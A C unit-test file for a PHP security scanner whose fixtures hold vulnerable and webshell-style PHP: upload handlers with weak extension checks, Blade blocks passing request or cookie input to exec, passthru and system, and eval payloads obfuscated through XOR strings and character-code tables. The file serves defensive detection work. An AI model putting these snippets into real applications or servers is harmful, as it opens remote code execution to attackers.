/* The PHP analysis, second generalization round train6 (branch fix6-web2):
 * the causes fix6-web left of what tests/eval/train6 showed. Every snippet
 * is written here from the technique, in spellings train6 does not use,
 * with the look-alikes of real applications. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "php_expect.h"
#include "scan/php_analyze.h"

/* A file manager whose write is guarded by an allow-list of extensions
 * (preg_match, or in_array of pathinfo's extension in a literal list) and
 * an exit: what it writes is no script. A deny-list does not count. */
static void test_extension_allow_list(void **state)
{
	(void)state;
	not_high("<?php session_start(); if (empty($_SESSION['uid'])) die('login');\n"
	         "$root = realpath(__DIR__ . '/notes');\n"
	         "$sub = realpath($root . '/' . ($_REQUEST['folder'] ?? ''));\n"
	         "if (!$sub || strncmp($sub, $root, strlen($root)) !== 0) die('no');\n"
	         "$fn = basename($_REQUEST['file']);\n"
	         "if (!preg_match('~\\.(csv|log|ya?ml)\\z~i', $fn)) {\n"
	         "    header('HTTP/1.1 415'); return;\n}\n"
	         "$h = fopen($sub . DIRECTORY_SEPARATOR . $fn, 'w');\n"
	         "fwrite($h, $_REQUEST['body']); fclose($h);");
	not_high("<?php require 'auth.php';\n"
	         "$dst = $_POST['dir'] . '/' . basename($_POST['fname']);\n"
	         "$ext = strtolower(pathinfo($_POST['fname'], PATHINFO_EXTENSION));\n"
	         "if (!in_array($ext, array('txt', '.csv', 'css', 'xml'), true)) {\n"
	         "    throw new RuntimeException('type');\n}\n"
	         "file_put_contents($dst, $_POST['text']);");
	/* a deny-list leaves .phtml, .php5, .htaccess */
	expect("<?php $n = basename($_POST['fname']);\n"
	       "if (preg_match('/\\.php$/i', $n)) exit('no php');\n"
	       "file_put_contents($_POST['dir'] . '/' . $n, $_POST['text']);",
	       "php.input_to_file_write", HS_SEV_HIGH);
	/* an "allow-list" that lets a runnable extension through */
	expect("<?php $n = basename($_POST['fname']);\n"
	       "if (!preg_match('/\\.(txt|phtml)$/', $n)) exit;\n"
	       "file_put_contents($_POST['dir'] . '/' . $n, $_POST['text']);",
	       "php.input_to_file_write", HS_SEV_HIGH);
	/* the match not negated, or nothing leaves: no guard */
	expect("<?php $n = basename($_POST['fname']);\n"
	       "if (!preg_match('/\\.(txt|md)$/', $n)) { $warn = 1; }\n"
	       "file_put_contents($_POST['dir'] . '/' . $n, $_POST['text']);",
	       "php.input_to_file_write", HS_SEV_HIGH);
	/* in_array of a request field that is no extension (an action name) */
	expect("<?php if (!in_array($_GET['op'], ['save', 'list'])) exit;\n"
	       "file_put_contents($_GET['to'], $_POST['data']);",
	       "php.input_to_file_write", HS_SEV_HIGH);
}

/* A name stripped to a class that keeps '.' and letters can still end in
 * .php: a writer to it is an uploader. A class without '.' stays a
 * sanitizer. */
static void test_name_class_keeps_dot(void **state)
{
	(void)state;
	expect("<?php $f = preg_replace('#[^A-Za-z0-9._-]#', '', $_COOKIE['n']);\n"
	       "file_put_contents(dirname(__FILE__) . '/' . $f, $_POST['b']);",
	       "php.input_to_file_write", HS_SEV_HIGH);
	expect("<?php $raw = file_get_contents('php://input');\n"
	       "$t = preg_replace(\"/[^\\\\w\\\\.]+/\", '', $_REQUEST['as']);\n"
	       "$o = fopen(__DIR__ . \"/$t\", 'wb'); fwrite($o, $raw);",
	       "php.input_to_file_write", HS_SEV_HIGH);
	/* letters and digits only: a key, not a file name */
	quiet("<?php $k = preg_replace('/[^a-z0-9]/', '', $_GET['k']);\n"
	      "file_put_contents('/var/cache/app/' . $k . '.json', json_encode($_GET));");
}

/* Blade: @php ... @endphp and @php(expr) are PHP in a view with no open
 * tag; prose and Markdown naming the directives are not. */
static bool analyze_as(const char *src, const char *ext)
{
	php_result_free(&res);
	return php_analyze((const unsigned char *)src, strlen(src), ext, &res);
}

static void test_blade_blocks(void **state)
{
	(void)state;
	assert_true(analyze_as("@extends('layouts.admin')\n@section('body')\n"
	                       "  @php\n    $out = [];\n"
	                       "    exec(request()->input('job'), $out);\n  @endphp\n"
	                       "  <pre>{{ implode(\"\\n\", $out) }}</pre>\n@endsection\n",
	                       "php"));
	assert_non_null(find("php.input_to_command"));
	assert_true(analyze_as("<div>@php(passthru($_COOKIE['t']))</div>\n", "php"));
	assert_non_null(find("php.input_to_command"));
	/* a real view: arithmetic in a block, an escaped @@php, a loop */
	assert_true(analyze_as("@extends('layouts.app')\n@section('content')\n"
	                       "@php $total = 0; @endphp\n"
	                       "@foreach ($orders as $o)\n  @php $total += $o->amount; @endphp\n"
	                       "  <li>{{ $o->ref }}</li>\n@endforeach\n"
	                       "<p>Write @@php to print the directive.</p>\n"
	                       "<b>{{ number_format($total, 2) }}</b>\n@endsection\n",
	                       "php"));
	assert_int_equal(res.nhits, 0);
	/* documentation of the directive is not code */
	assert_false(analyze_as("# Blade\n\nUse `@php` ... `@endphp`:\n\n"
	                        "    @php system($_GET['x']); @endphp\n",
	                        "md"));
	assert_false(analyze_as("<p>Our @php tips: no @endphp needed in plain pages</p>\n"
	                        "<p>hello</p>\n",
	                        "html") &&
	             res.nhits > 0);
}

/* Folds: a closure mapped over a long literal list (a table of character
 * codes), hexdec() of known digits, md5()/sha1() of a literal. */
static void test_folds(void **state)
{
	(void)state;
	expect("<?php $t = '53 59 53 54 45 4d 8 4 7f 67 65 74 7b 7 51 7 7d 9 1b';\n"
	       "$c = implode('', array_map(function ($x) { return chr(hexdec($x) ^ 32); }, "
	       "explode(' ', $t)));\neval($c);",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php $codes = [115, 100, 118, 118, 119, 107, 117, 120];\n"
	       "$s = join(array_map(fn($n) => chr($n - 3), $codes));\n$s($_POST['z']);",
	       "php.input_to_command", HS_SEV_CRITICAL);
	/* md5 of a literal: here a key of length 0 taken from it, the XOR key
	 * is what follows */
	expect("<?php $key = substr(sha1('salt'), 0, 0) . 'k';\n"
	       "$e = "
	       "\"\\x18\\x12\\x18\\x1f\\x0e\\x06\\x43\\x4f\\x34\\x2c\\x2e\\x3f\\x30\\x4c\\x1a\\x4c"
	       "\\x36\\x42\\x50\";\n"
	       "eval($e ^ str_repeat($key, strlen($e)));",
	       "php.input_to_command", HS_SEV_CRITICAL);
	/* a foreach over a long table of codes building the payload */
	expect("<?php $tbl = "
	       "[122,111,108,115,115,102,108,127,108,106,47,43,102,89,76,88,92,76,90,91,98,46,106,"
	       "116,107,46,100,48,66,39,54,49,39,119,104,107,107,112,117,110,39,119,104,107,107,"
	       "112,117,110,39,119,104,107,107,112,117,110,39,119,104,107,107,112,117,110,39,119,"
	       "104,107,107,112,117,110,39,119,104,107,107,112,117,110,39,119,104,107,107,112,117,"
	       "110,39,119,104,107,107,112,117,110,39,49,54];\n"
	       "$out = '';\nforeach ($tbl as $v) { $out .= chr($v - 7); }\neval($out);",
	       "php.input_to_command", HS_SEV_CRITICAL);
	/* md5 of input stays a hash */
	quiet("<?php $id = md5($_GET['u']); echo htmlspecialchars($id);");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_extension_allow_list),
	    cmocka_unit_test(test_name_class_keeps_dot),
	    cmocka_unit_test(test_blade_blocks),
	    cmocka_unit_test(test_folds),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
